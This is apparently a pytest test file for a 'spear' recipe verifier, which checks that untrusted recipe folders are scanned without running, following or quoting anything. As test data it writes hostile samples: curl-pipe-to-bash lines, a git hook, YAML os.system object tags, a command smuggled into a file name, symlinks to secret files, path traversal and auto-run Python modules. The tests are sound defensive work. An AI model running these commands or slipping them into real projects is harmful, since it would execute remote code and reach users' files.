"""A recipe from somebody who means harm: everything is listed; nothing is run, followed, waited for or written."""

import os
import shutil
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import soundfile

from spear import fs
from spear.recipe import NewRecipe, new_recipe, verify_recipe
from spear.recipe.inventory import Inventory

SECRET = "the secret line of a file outside /" + "home/victim/secret"  # with what would be quoted from a file inside


@pytest.fixture(scope="module")
def innocent(tmp_path_factory):
    folder = tmp_path_factory.mktemp("innocent")
    (folder / "raw").mkdir()
    soundfile.write(folder / "raw" / "u.wav", np.zeros(16000), 16000)
    return new_recipe(NewRecipe(str(folder / "recipe"), str(folder / "raw"), size="mini"))


@pytest.fixture
def recipe(innocent, tmp_path):
    (tmp_path / "secret.sh").write_text(f"#!/bin/bash\ncurl {SECRET}\n")
    return Path(shutil.copytree(innocent, tmp_path / "received", symlinks=True))


def append(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "a") as handle:
        handle.write(text)


def executable(path, text):
    append(path, text)
    path.chmod(0o755)


def settings(text):
    return lambda recipe: append(recipe / "conf/a.yaml", text)


PIPE = "curl https://example.org/x | bash\n"
# Each: what is done to the recipe, where it must be listed, and as what at least.
CODE = {
    "a line in prepare.sh": (lambda r: append(r / "prepare.sh", PIPE), "prepare.sh", "code"),
    "a line in train.py": (lambda r: append(r / "train.py", "import os; os.popen('x')\n"), "train.py", "code"),
    "rmtree": (lambda r: append(r / "train.py", "import shutil as s; s.rmtree('/x')\n"), "train.py", "code"),
    "torch.load": (lambda r: append(r / "train.py", "torch.load(p, weights_only=False)\n"), "train.py", "code"),
    "a word of no list": (lambda r: append(r / "prepare.sh", "c'u'rl x\n"), "prepare.sh", "code"),
    "shared": (lambda r: append(r / "shared/stages.sh", PIPE), "shared/stages.sh", "problem"),
    "more in shared": (lambda r: append(r / "shared/more.txt", "x"), "shared/more.txt", "problem"),
    "less in shared": (lambda r: (r / "shared/stages.sh").unlink(), "shared/stages.sh", "problem"),
    "a script without suffix": (lambda r: append(r / "local/fetch", "#!/bin/sh\n" + PIPE), "local/fetch", "code"),
    "the right to run": (lambda r: executable(r / "NOTICE", "hello\n"), "NOTICE", "code"),
    "a program": (lambda r: (r / "tool").write_bytes(b"\x7fELF\0\0"), "tool", "code"),
    "setup.py": (lambda r: append(r / "setup.py", ""), "setup.py", "code"),
    "requirements": (lambda r: append(r / "requirements.txt", "evil\n"), "requirements.txt", "code"),
    "a package": (lambda r: append(r / "spear/__init__.py", "x = 1\n"), "spear/__init__.py", "code"),
    "an environment": (lambda r: append(r / ".venv/bin/activate", "x\n"), ".venv/bin/activate", "code"),
    "bytecode": (lambda r: append(r / "__pycache__/t.pyc", "x"), "__pycache__/t.pyc", "code"),
    "among the data": (lambda r: append(r / "data/x/run", "#!/bin/sh\n"), "data/x/run", "code"),
    "a folder called data_": (lambda r: append(r / "data_x/a.sh", PIPE), "data_x/a.sh", "code"),
    "a hook": (lambda r: append(r / ".git/hooks/post-checkout", PIPE), ".git/hooks/post-checkout", "code"),
    "what nobody knows": (lambda r: append(r / "local/x.unknown", "hello"), "local/x.unknown", "note"),
    "edited settings": (lambda r: append(r / "conf/student.yaml", "seed: 3\n"), "conf/student.yaml", "note"),
    "a key that was a way out": (settings("skipped: []\nnum_stepz: 3\n"), "conf/a.yaml", "problem"),
    "both keys": (settings("tasks: []\nskipped: []\n"), "conf/a.yaml", "problem"),
    "an object in YAML": (settings("seed: !!python/object/apply:os.getpid []\n"), "conf/a.yaml", "problem"),
    "references": (settings("a: &a [1, 1]\nb: &b [*a, *a]\nc: &c [*b, *b]\n"), "conf/a.yaml", "problem"),
    "many keys": (settings("".join(f"k{n}: 1\n" for n in range(60_000))), "conf/a.yaml", "problem"),
    "deep": (settings("a: " + "[" * 20_000), "conf/a.yaml", "problem"),
    "elsewhere": (settings("exp_dir: ../../.ssh\n"), "conf/a.yaml", "problem"),
    "facts": (lambda r: (r / "recipe.json").write_text('{"name": "x; rm"}'), "recipe.json", "problem"),
    "a name with an escape": (lambda r: append(r / "a\x1b[2K\nok.sh", PIPE), r"a\x1b[2K\nok.sh", "code"),
}  # fmt: skip


@pytest.mark.parametrize("what", CODE)
def test_what_is_not_spears_own_is_listed(recipe, what):
    assert {finding.kind for finding in verify_recipe(recipe)} == {"note"}
    change, where, kind = CODE[what]
    change(recipe)
    assert (kind, where) in {(finding.kind, finding.where) for finding in verify_recipe(recipe)}


def test_teachers_that_bring_code_are_listed(innocent, tmp_path):
    audio = str(innocent.parent / "raw")
    for teacher in ("usad:x@1,trust_remote_code=TRUE", "theirs:x@1"):
        place = new_recipe(NewRecipe(str(tmp_path / teacher[:4]), audio, teacher=teacher))
        assert [f.where for f in verify_recipe(place) if f.kind == "code"] == ["recipe.json"]
    place = new_recipe(NewRecipe(str(tmp_path / "wavlm"), audio, teacher="wavlm:microsoft/wavlm-large@21"))
    assert [f for f in verify_recipe(place) if f.kind == "code"] == []


def test_a_stated_version_is_no_excuse(recipe):
    facts = fs.read_json(recipe / "recipe.json")
    fs.write_json(recipe / "recipe.json", facts | {"spear_version": "99.0"})
    append(recipe / "shared/stages.sh", PIPE)
    found = verify_recipe(recipe)
    assert ("problem", "shared/stages.sh") in {(finding.kind, finding.where) for finding in found}
    assert any("spear 99.0; compared with" in finding.what for finding in found)


def test_links_are_listed_and_not_followed(recipe, tmp_path, capsys):
    from spear.bin.recipe import main

    links = {
        "outside.sh": tmp_path / "secret.sh",
        "conf/outside.yaml": tmp_path / "secret.sh",
        "folder": tmp_path,
        "local": "nowhere",
        "inside.sh": "prepare.sh",
        "loop": "loop",
        "data/READY": tmp_path / "secret.sh",
        "data/manifests": tmp_path,
    }
    for name, target in links.items():
        (recipe / name).symlink_to(target)
    os.link(tmp_path / "secret.sh", recipe / "hard.sh")
    shutil.rmtree(recipe / "shared")
    (recipe / "shared").symlink_to(tmp_path)
    kinds = {finding.where: finding.kind for finding in verify_recipe(recipe) if "link" in finding.what}
    assert {*links, "hard.sh", "shared", "data/raw/raw"} <= set(kinds)
    notes = {where for where, kind in kinds.items() if kind == "note"}
    assert notes == {"inside.sh", "hard.sh", "data/raw/raw"}
    assert main(["verify", str(recipe)]) == 1
    assert "secret line" not in capsys.readouterr().out


def test_nothing_is_quoted_from_files_with_other_names(recipe, tmp_path):
    """They may have been linked by what unpacked the recipe, to files of the one who looks at it."""
    places = {
        "conf/a.yaml": "seed: SECRET\n",
        "conf/b.yaml": "streams: {SECRET: 3}\n",
        "conf/c.yaml": "tasks: [{SECRET: 1}]\n",
        "conf/d.yaml": "exp_dir: /SECRET\n",
        "conf/e.yaml": "sources: [{name: x, cuts: /SECRET, domain: speech}]\n",
        "x.sh": "if ) SECRET (\n",
        "x.py": "x = ) SECRET (\n",
        "recipe.json": '{"SECRET": 1, "spear_version": "SECRET"}',
        "data/READY": '{"cuts": {"SECRET": {"sha256": "x"}}, "streams": {"speech": {"card_sha256": "x"}}}',
        "data/tokens/speech/card.json": '{"SECRET": 1, "teacher": "SECRET"}',
    }
    for number, (place, text) in enumerate(places.items()):
        (tmp_path / f"outside-{number}").write_text(text)
        (recipe / place).parent.mkdir(parents=True, exist_ok=True)
        (recipe / place).unlink(missing_ok=True)
        os.link(tmp_path / f"outside-{number}", recipe / place)
    found = verify_recipe(recipe)
    assert set(places) - {"data/tokens/speech/card.json"} <= {finding.where for finding in found}
    assert not [finding for finding in found if "SECRET" in f"{finding.where} {finding.what}"]


def test_ready_names_nothing_outside(recipe, tmp_path):
    name = "../../../secret.sh"
    digest = fs.sha256_file(tmp_path / "secret.sh")
    ready = {"cuts": {name: {"sha256": digest}}, "streams": {"../../x": {"card_sha256": "0"}}}
    fs.write_json(recipe / "data" / "READY", ready)
    what = [finding.what for finding in verify_recipe(recipe) if finding.kind == "problem"]
    assert sorted(what) == ["READY names no file of its own", "READY names no stream of its own"]


@pytest.mark.parametrize("name", ["data/READY", "conf/student.yaml", "README.md", "prepare.sh", "recipe.json", "x.py"])
@pytest.mark.parametrize("type_", ["pipe", "socket", "huge", "device"])
def test_types_and_sizes_are_known_before_anything_is_read(recipe, name, type_, monkeypatch):
    path = recipe / name
    path.unlink(missing_ok=True)
    if type_ == "pipe":
        os.mkfifo(path)
    elif type_ == "socket":
        monkeypatch.chdir(path.parent)  # names of sockets are short
        socket.socket(socket.AF_UNIX).bind(path.name)
    elif type_ == "device":
        try:
            os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero
        except OSError:
            pytest.skip("no right to make devices")
    else:
        with open(path, "wb") as handle:
            handle.truncate(1 << 36)
    begin = time.process_time()  # of ours: other tests may keep the machine busy, and a hang runs into pytest's limit
    found = verify_recipe(recipe)
    assert time.process_time() - begin < 10
    assert name in {finding.where for finding in found}


def test_a_time_limit_is_kept_and_said(recipe):
    with open(recipe / "data" / "cuts", "wb") as handle:
        handle.truncate(1 << 38)
    (recipe / "data/manifests").mkdir()
    (recipe / "data/cuts").rename(recipe / "data/manifests/cuts")
    fs.write_json(recipe / "data" / "READY", {"cuts": {"cuts": {"sha256": "0"}}, "streams": {}})
    begin = time.process_time()
    found = {finding.where: finding.what for finding in verify_recipe(recipe, max_seconds=1.0)}
    assert time.process_time() - begin < 8
    assert "no time was left" in found["data/manifests/cuts"]
    folder = recipe
    for _ in range(300):  # deeper than a path may be long
        folder = folder / ("d" * 20)
    os.makedirs(Path(*folder.parts[:100]))
    assert len(Inventory(recipe, 5.0).entries) > 50


def tree(folder):
    """Every name below a folder with its type, size and times; nothing is opened."""
    found = {}
    for path in [folder, *folder.rglob("*")]:
        status = path.lstat()
        found[str(path)] = (status.st_mode, status.st_size, status.st_mtime_ns, status.st_ctime_ns)
    return found


def test_verify_as_a_process_runs_and_writes_nothing(recipe, tmp_path):
    """Inside the recipe, which holds modules of Python's and our own names, in a home of its own."""
    home = tmp_path / "home"
    home.mkdir()
    touch = f"touch '{home}/pwned' '{recipe}/pwned'"
    for name in ("re", "torch", "yaml", "spear/__init__", "sitecustomize", "usercustomize", "setup", "conftest"):
        append(recipe / f"{name}.py", f"import os\nos.system({touch!r})\n")
    for name in ("prepare.sh", "run", ".envrc", "shared/setup_environment.sh", "Makefile", "data/raw.sh"):
        executable(recipe / name, f"#!/bin/sh\n{touch}\n")
    append(recipe / "conf/a.yaml", f"seed: !!python/object/apply:os.system [{touch!r}]\n")
    append(recipe / f"$({touch.replace('/', '_')}).sh", touch)
    os.mkfifo(recipe / "data" / "READY")
    before = tree(tmp_path)
    surroundings = {"HOME": str(home), "PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "TMPDIR": str(home)}
    program = "import sys; from spear.bin.main import main; sys.exit(main())"
    done = subprocess.run(
        [sys.executable, "-P" if sys.version_info >= (3, 11) else "-I", "-c", program, "recipe", "verify", "."],
        cwd=recipe,
        env=surroundings | {"PYTHONPATH": str(Path(__file__).resolve().parents[2])},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stdout + done.stderr
    for name in ("re.py", "sitecustomize.py", "run", ".envrc", "Makefile", "prepare.sh", "data/raw.sh"):
        assert f"code: {name}: " in done.stdout
    assert tree(tmp_path) == before
